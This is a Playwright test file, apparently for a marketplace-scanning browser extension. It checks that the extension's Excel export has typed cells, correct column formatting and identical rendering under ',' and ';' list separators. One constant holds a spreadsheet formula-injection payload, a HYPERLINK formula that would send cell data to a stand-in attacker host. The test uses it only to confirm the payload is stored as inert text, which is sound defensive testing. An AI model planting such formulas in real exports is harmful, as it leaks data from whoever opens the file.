import { readFileSync } from "node:fs";
import type { Page } from "@playwright/test";
import ExcelJS from "exceljs";
import { DEMO_SEARCH_URL } from "../../demo/marketplace";
import { SWEEP_COLUMNS } from "../../utils/sweep/columns";
import type { SweepItem } from "../../utils/sweep/schema";
import { expect, test } from "./support/fixtures";
import { openInSpreadsheet } from "./support/spreadsheet";
import { enableStaffMode, startSweep } from "./support/sweep";

/** Clicks an export button; the downloaded file's path and the name the browser was given for it. */
async function download(panel: Page, action: string): Promise<{ path: string; name: string }> {
  const [file] = await Promise.all([
    panel.waitForEvent("download"),
    panel.locator(`[data-action="${action}"]`).click(),
  ]);
  return { path: await file.path(), name: file.suggestedFilename() };
}

/** What a spreadsheet shows for a moment: dd/mm/yyyy hh:mm, in the machine's own time (as the browser's). */
function shownDate(ms: number): string {
  const d = new Date(ms);
  const two = (n: number) => String(n).padStart(2, "0");
  return `${two(d.getDate())}/${two(d.getMonth() + 1)}/${d.getFullYear()} ${two(d.getHours())}:${two(d.getMinutes())}`;
}

// Staff input is untrusted too: a note that a spreadsheet would run, were it a formula.
const FORMULA_NOTE = '=HYPERLINK("http://attacker.example/?"&A1,"Bấm vào đây")';

test("the sweep's Excel export opens in a real spreadsheet engine with typed cells, under ',' and ';' list separators alike", async ({
  context,
  extensionId,
  serviceWorker,
  intake,
}) => {
  test.setTimeout(120_000);
  await enableStaffMode(serviceWorker, intake);
  const panel = await context.newPage();
  await panel.goto(`chrome-extension://${extensionId}/sidepanel.html`);
  await startSweep(panel, { name: "Quét Excel", inspectorId: "QLTT-07", unit: "Đội QLTT số 7" });
  const shop = await context.newPage();
  await shop.goto(DEMO_SEARCH_URL);
  await expect(shop.locator("soi-hang-badge")).toHaveCount(31);
  await panel.bringToFront();
  const rows = panel.locator(".sweep-row");
  await expect.poll(() => rows.count(), { timeout: 20_000 }).toBeGreaterThan(3);
  const markedKey = (await rows.first().getAttribute("data-key")) ?? "";
  await rows.first().locator('input[type="checkbox"]').check();
  await panel.locator('input[name="markNote"]').fill(FORMULA_NOTE);
  await panel.locator('[data-action="apply-mark"]').click();
  await expect(panel.locator('[data-field="selection-status"]')).toContainText("1");

  const { path: xlsx, name } = await download(panel, "export-xlsx");
  expect(name).toMatch(/^soi-hang-quet-quet-excel-\d{4}-\d{2}-\d{2}\.xlsx$/);
  const { items } = JSON.parse(readFileSync((await download(panel, "export-json")).path, "utf8")) as {
    items: SweepItem[];
  };
  expect(items).toHaveLength(31);
  const byKey = new Map(items.map((i) => [i.key, i]));
  expect(byKey.get(markedKey)?.note).toBe(FORMULA_NOTE);

  // The workbook's structure: header row frozen, widths set, numbers and dates typed, no formula anywhere.
  const book = new ExcelJS.Workbook();
  await book.xlsx.readFile(xlsx);
  const sheet = book.getWorksheet("Tin đăng");
  expect(sheet?.views[0]).toMatchObject({ state: "frozen", ySplit: 1 });
  expect(sheet?.getRow(1).values).toEqual([undefined, ...SWEEP_COLUMNS.map((c) => c.header)]);
  SWEEP_COLUMNS.forEach((c, i) => {
    expect(sheet?.getColumn(i + 1).width).toBe(c.width);
  });
  let formulas = 0;
  sheet?.eachRow((row, n) => {
    row.eachCell((cell) => {
      if (cell.type === ExcelJS.ValueType.Formula) formulas++;
    });
    if (n === 1) return;
    const column = (header: string) => row.getCell(SWEEP_COLUMNS.findIndex((c) => c.header === header) + 1);
    expect(column("Thấy lần đầu").type).toBe(ExcelJS.ValueType.Date);
    expect(column("Số lần thấy").type).toBe(ExcelJS.ValueType.Number);
    if (column("Giá").value !== null) expect(column("Giá").type).toBe(ExcelJS.ValueType.Number);
  });
  expect(formulas).toBe(0);

  // What a person sees on opening it, whichever list separator their regional settings use.
  const asComma = openInSpreadsheet(xlsx, ",");
  const asSemicolon = openInSpreadsheet(xlsx, ";");
  expect(asSemicolon).toEqual(asComma);
  const [header, ...body] = asComma;
  expect(header).toEqual(SWEEP_COLUMNS.map((c) => c.header));
  expect(body).toHaveLength(items.length);
  const at = (row: string[], name: string) => row[SWEEP_COLUMNS.findIndex((c) => c.header === name)] ?? "";
  const levels = new Set(["Cảnh báo", "Cần lưu ý", "Gian hàng chính thức", "Chưa có cảnh báo"]);
  for (const row of body) {
    expect(row).toHaveLength(SWEEP_COLUMNS.length);
    const item = byKey.get(at(row, "Mã tin đăng"));
    if (!item) throw new Error(`row for an unknown listing: ${row.join(" | ")}`);
    expect(at(row, "Tiêu đề")).toBe(item.listing.title);
    expect(at(row, "Tên người bán")).toBe(item.listing.sellerName ?? "");
    const price = item.listing.price;
    expect(at(row, "Giá")).toBe(price === undefined ? "" : new Intl.NumberFormat("en-US").format(price));
    expect(levels.has(at(row, "Mức cảnh báo"))).toBe(true);
    expect(at(row, "Lý do")).toBe(item.reasons.map((r) => r.text.vi).join("; "));
    expect(at(row, "Thấy lần đầu")).toBe(shownDate(item.firstSeenAt));
    expect(at(row, "Số lần thấy")).toBe(String(item.seen));
  }
  const marked = body.find((row) => at(row, "Mã tin đăng") === markedKey) ?? [];
  // The note is shown as the text typed, not run: a formula would have shown "Bấm vào đây".
  expect(at(marked, "Ghi chú")).toBe(FORMULA_NOTE);
  expect(at(marked, "Đánh dấu")).toBe("Nghi vấn");
  // A reason list with "; " in it is one cell under the ";" separator too (checked by the row lengths above).
  expect(body.some((row) => at(row, "Lý do").includes("; "))).toBe(true);
});
